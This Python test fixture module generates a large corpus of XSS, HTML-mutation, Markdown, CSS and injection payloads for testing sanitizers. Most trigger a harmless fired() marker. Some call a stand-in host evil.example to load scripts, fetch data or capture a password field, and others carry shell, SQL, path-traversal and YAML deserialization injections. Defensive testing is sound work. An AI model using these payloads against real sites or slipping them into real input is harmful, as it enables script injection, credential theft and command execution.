r"""Texts that attack pages: every family in the cheat sheets and in the tests of sanitizers.

The code in them calls `fired()`, which the browser tests listen for.
"""

from base64 import b64encode
from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

CALL = "fired()"
SCRIPT = f"<script>{CALL}</script>"
IMAGE = f"<img src=x onerror={CALL}>"
EVIL = "//evil.example"
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "details open",
    "input autofocus",
    "select autofocus",
    "button autofocus",
    "textarea autofocus",
    "marquee",
    "iframe",
    "object data=x",
    "embed src=x",
    "math",
    "form",
    "a href=x tabindex=0 autofocus",
    "p style=animation:x contenteditable autofocus",
    "style",
    "link rel=stylesheet href=x",
    "dialog open",
    "table background=x",
)
EVENTS = "onerror onload onfocus ontoggle onpointerover onanimationstart onfocusin".split()
LINKS = (
    '<a href="{}">x</a>',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>',
    '<form action="{}"><button>x</button></form>',
    '<form><button formaction="{}">x</button></form>',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<base href="{}">',
    '<link rel=stylesheet href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<img src="{}">',
    '<blockquote cite="{}">x</blockquote>',
    "[x]({})",
    "![x]({})",
    "<{}>",
)
URLS = (
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f" \x01javascript:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;&#x61;vascript&#58;{CALL}",
    f"javascript:/*{EVIL}*/{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,{SCRIPT}",
    f"data:text/html;base64,{b64encode(SCRIPT.encode()).decode()}",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    f"{EVIL}/x.html",
)
CLOSERS = (
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</xmp>",
    "</svg>",
    "</main></body></html>",
    "-->",
    "--!>",
    "]]>",
    "?>",
    '">',
    "'>",
    "`>",
    "</p></div></article>",
    '"}</script>',
    '"]}}</script>',
    "\\\"'>",
)
SCRIPTS = f"""
<script>{CALL}</script>
<SCRIPT SRC={EVIL}/x.js></SCRIPT>
<script/x>{CALL}</script >
<script\t>{CALL}</script\t>
<scr<script>ipt>{CALL}</scr</script>ipt>
<<script>{CALL}//<</script>
<script>{CALL}<!--
<script type=module>{CALL}</script>
<script type=text/javascript>{CALL}</script>
<script type="application/ld+json">{{"@type":"NewsArticle"}}</script>
<script nomodule>{CALL}</script>
<script src="data:,{CALL}"></script>
<script src=data:text/javascript,{CALL}></script>
<script async src=/media/x/x.js></script>
<svg><script>{CALL}</script></svg>
<svg><script href=data:,{CALL} /></svg>
<svg><script>&#102;ired()</script></svg>
<math><script>{CALL}</script></math>
<noscript><p title="</noscript>{IMAGE}">
<template><script>{CALL}</script></template>
<script>import("{EVIL}/x.js")</script>
<script>fetch("{EVIL}")</script>
<importmap><script type=importmap>{{}}</script>
"""
MUTATIONS = f"""
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={CALL}&gt;">
<svg></p><style><a id="</style>{IMAGE}">
<form><math><mtext></form><form><mglyph><style></math>{IMAGE}
<noscript><style></noscript>{IMAGE}
<svg><foreignObject><iframe srcdoc="{escape(SCRIPT)}"></iframe></foreignObject></svg>
<svg><desc><noscript>&lt;/noscript>&lt;/desc>&lt;style>&lt;a title="&lt;/style>{IMAGE}">
<math><annotation-xml encoding="text/html">{IMAGE}</annotation-xml></math>
<select><template><style><!--</style><a rel="--></style></template></select>{IMAGE}">
<table><td><svg><title><table>{IMAGE}
<xmp><p title="</xmp>{IMAGE}">
<plaintext>{IMAGE}
<listing>&lt;img src=x onerror={CALL}&gt;</listing>
<textarea><p title="</textarea>{IMAGE}">
<title><p title="</title>{IMAGE}">
<!--><img src=x onerror={CALL}>-->
<!---><img src=x onerror={CALL}>-->
<!-- --!><img src=x onerror={CALL}> -->
<![CDATA[><img src=x onerror={CALL}>]]>
<?xml-stylesheet href="javascript:{CALL}"?>
<!DOCTYPE x [<!ENTITY a "{CALL}">]>&a;
<a title="`<p>`"{IMAGE}
<img src=`x`onerror={CALL}>
<img src="x"onerror="{CALL}"
<img/src=x/onerror={CALL}//
<img title='"'"><script>{CALL}</script>">
<a href="x" title='"onmouseover="{CALL}'>x</a>
<b><table><b>{IMAGE}</table>
<isindex type=image src=1 onerror={CALL}>
<keygen autofocus onfocus={CALL}>
<frameset onload={CALL}><frame src=javascript:{CALL}></frameset>
<applet code=x onload={CALL}>
<portal src=javascript:{CALL}></portal>
<fencedframe src={EVIL}></fencedframe>
"""
STYLES = f"""
<style>@import '{EVIL}/x.css';</style>
<style>*{{background:url({EVIL}/x.png)}}</style>
<style>main{{display:none}}</style>
<p style="background:url(javascript:{CALL})">x
<p style="position:fixed;inset:0;background:red">x
<p style="width:expression({CALL})">x
<p style="-moz-binding:url({EVIL}/x.xml)">x
<link rel=stylesheet href={EVIL}/x.css>
<link rel=preload as=script href={EVIL}/x.js>
<link rel=modulepreload href={EVIL}/x.js>
<link rel=prefetch href={EVIL}/x>
<link rel=dns-prefetch href={EVIL}>
<link rel=icon href={EVIL}/x.ico>
<link rel=manifest href={EVIL}/x.json>
</style><style>*{{display:none}}
"""
FRAMES = f"""
<iframe srcdoc="{escape(SCRIPT)}"></iframe>
<iframe srcdoc='<img src=x onerror=parent.{CALL}>'></iframe>
<iframe src="{EVIL}" onload={CALL}></iframe>
<iframe src="/" name=fired></iframe>
<object type=text/html data="{EVIL}"></object>
<object><param name=src value=javascript:{CALL}></object>
<embed src="{EVIL}/x.swf" allowscriptaccess=always>
<base href="{EVIL}/">
<base target=_blank href=javascript:/>
<meta http-equiv=refresh content=0>
<meta http-equiv="refresh" content="0;{EVIL}">
<meta http-equiv=Content-Security-Policy content="default-src *">
<meta http-equiv=Set-Cookie content=a=b>
<meta charset=utf-7>+ADw-script+AD4-{CALL}+ADw-/script+AD4-
<form id=x></form><button form=x formaction=javascript:{CALL}>x</button>
<form action={EVIL}><input name=password type=password autofocus><button>x</button></form>
<input type=image src={EVIL}/x.png>
<form name=body><input name=firstChild><input id=attributes></form>
<img name=getElementById><a id=documentElement href=x>x</a>
<a target=_blank rel=opener href={EVIL}>x</a>
<a ping={EVIL} href=x>x</a>
<a href=x download=x.exe>x</a>
<area href=javascript:{CALL} shape=default><map name=x></map>
<video poster={EVIL}/x.png autoplay><source onerror={CALL} src=x></video>
<video><track kind=captions src={EVIL}/x.vtt onload={CALL} default></video>
<audio src={EVIL}/x.mp3 autoplay controls></audio>
<picture><source srcset={EVIL}/x.png><img src=x onerror={CALL}></picture>
<img srcset="{EVIL}/x.png 1x" src=x>
<img src={EVIL}/x.png loading=eager>
<img lowsrc=javascript:{CALL} dynsrc=javascript:{CALL}>
<div popover id=p onbeforetoggle={CALL}>x</div><button popovertarget=p>x</button>
<input type=hidden accesskey=x onclick={CALL}>
<svg><animate onbegin={CALL} attributeName=x dur=1s>
<svg><set onbegin={CALL} attributeName=x>
<svg><a><animate attributeName=href values=javascript:{CALL} /><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><image href='x' onerror='{CALL}'/></svg>#x"/></svg>
<svg><image href=x onerror={CALL}></svg>
<svg><discard onbegin={CALL}>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>{CALL}</handler></svg>
<math href=javascript:{CALL}>x</math>
<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>
"""
MARKDOWN = f"""
[x](<javascript:{CALL}>)
[x](javascript&#58;{CALL})
[x](javascript%3A{CALL})
[x](\\javascript:{CALL})
[x]( javascript:{CALL})
[x](x "\\"onmouseover=\\"{CALL}")
[x](x '" onfocus={CALL} autofocus')
![x](x"onerror="{CALL})
![x" onerror="{CALL}](x)
![x]({EVIL}/x.png)
[x][y] [y]: javascript:{CALL}
<javascript:{CALL}>
<javascript:{CALL}//@x.y>
<x@y.z"onclick="{CALL}>
www.x.y/"onclick="{CALL}
http://x.y/'onclick='{CALL}
https://x.y/<script>{CALL}</script>
http://x.y/?"><script>{CALL}</script>
mailto:x@y.z?subject=<script>{CALL}</script>
[<img src=x onerror={CALL}>](x)
[x](x)<img src=x onerror={CALL}>
**<img src=x onerror={CALL}>**
`<img src=x onerror={CALL}>`
``` "onclick={CALL}
    <img src=x onerror={CALL}>
> <img src=x onerror={CALL}>
- [x] <img src=x onerror={CALL}>
| <img src=x onerror={CALL}> |
# <img src=x onerror={CALL}>
<!-- [x](-->{IMAGE})
[x](data:text/html;base64,{b64encode(SCRIPT.encode()).decode()})
[x]({EVIL})
[x](////evil.example)
[x](/\\evil.example)
[x](https:evil.example)
[x](blob:{EVIL})
[x](filesystem:{EVIL})
[x](file:///etc/passwd)
[x](view-source:javascript:{CALL})
[x](feed:javascript:{CALL})
"""
TEXTS = f"""
{{{{ settings }}}}{{{{ 7*7 }}}}
{{% include "style.css" %}}
${{{CALL}}}
<%= {CALL} %>
#{{{CALL}}}
*{{{CALL}}}
{{{{constructor.constructor('{CALL}')()}}}}
'-{CALL}-'
";{CALL};//
\\";{CALL};//
\\u003c/script\\u003e\\u003cscript\\u003e{CALL}
</script><!--<script>{CALL}
<!--<script>{CALL}</script>
"}},"@type":"x","x":"</script>{SCRIPT}
"onmouseover="{CALL}
" onfocus={CALL} autofocus x="
' onfocus={CALL} autofocus x='
` onfocus={CALL} autofocus x=`
" style="position:fixed;inset:0" onclick="{CALL}
"><base href={EVIL}>
"><meta http-equiv=refresh content=0;url={EVIL}>
&lt;script&gt;{CALL}&lt;/script&gt;
&amp;lt;script&amp;gt;{CALL}
&#60;script&#62;{CALL}&#60;/script&#62;
&#x3c;img src=x onerror={CALL}&#x3e;
&#0000060script>{CALL}</script>
&LT;script&GT;{CALL}
&lt;img src=x onerror=&quot;{CALL}&quot;&gt;
&quot;&gt;{IMAGE}
&NewLine;javascript:{CALL}&Tab;
＜script＞{CALL}＜/script＞
‹script›{CALL}‹/script›
\u02bcscript\u02bc \u02b9onerror={CALL}
\u202e>{CALL}<tpircs
\u2066<script>\u2069{CALL}
\u2028{CALL}\u2029
\ufeff<script>{CALL}</script>
<scr\u00adipt>{CALL}</script>
<scr\u200bipt>{CALL}</script>
<ſcript>{CALL}</ſcript>
<ımg src=x onerror={CALL}>
<img src=x on\u2028error={CALL}>
<a href="java\u00adscript:{CALL}">x</a>
+ADw-script+AD4-{CALL}+ADw-/script+AD4-
%3Cscript%3E{CALL}%3C/script%3E
%253Cscript%253E{CALL}
\\x3cscript\\x3e{CALL}
\\74script\\76{CALL}
= {CALL}
=HYPERLINK("{EVIL}")
../../../etc/passwd
..\\..\\windows\\win.ini
file:///etc/passwd
'; DROP TABLE entries; --
" OR 1=1 --
$(touch fired)
`touch fired`
; touch fired
| touch fired
%s%n%x
%0d%0aX-Fired: 1
--- status: draft ---
!!python/object/apply:os.system [touch fired]
&a [*a, *a]
<?php {CALL} ?>
<xsl:script>{CALL}</xsl:script>
<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:type=simple xlink:href=javascript:{CALL}>x</x>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">{CALL}</x:script>
<ruby oncopy={CALL}><rt>x
<time onauxclick={CALL}>x</time>
<x contenteditable onbeforeinput={CALL}>x
<x onwebkitanimationend={CALL} style="animation:x">x
<x oncontentvisibilityautostatechange={CALL} style=display:block;content-visibility:auto>x
<x onscrollsnapchange={CALL}>x
<audio controls onvolumechange={CALL}></audio>
<a onclick={CALL}>x
A\u0489\u0489\u0489\u0489\u0489\u0489\u0489\u0489\u0489\u0489\u0489\u0489
\U0001f468\u200d\U0001f469\u200d\U0001f467<b>
\u0000<script>{CALL}</script>
<img\u0000src=x onerror={CALL}>
<script\u000c>{CALL}</script>
<img\u000bsrc=x onerror={CALL}>
"""


def _snippets() -> Iterator[str]:
    for block in (SCRIPTS, MUTATIONS, STYLES, FRAMES, MARKDOWN, TEXTS):
        # At line feeds only: some of the texts contain other characters that end a line.
        yield from (line for line in block.split("\n") if line.strip())
    for closer, attack in product(CLOSERS, (SCRIPT, IMAGE)):
        yield closer + attack
    for link, url in product(LINKS, URLS):
        yield link.format(url)
    for tag, event in product(TAGS, EVENTS):
        yield f"<{tag} {event}={CALL}>"
    yield from (quote(SCRIPT), escape(SCRIPT), escape(escape(SCRIPT)), SCRIPT.encode().hex())


SNIPPETS = tuple(dict.fromkeys(_snippets()))
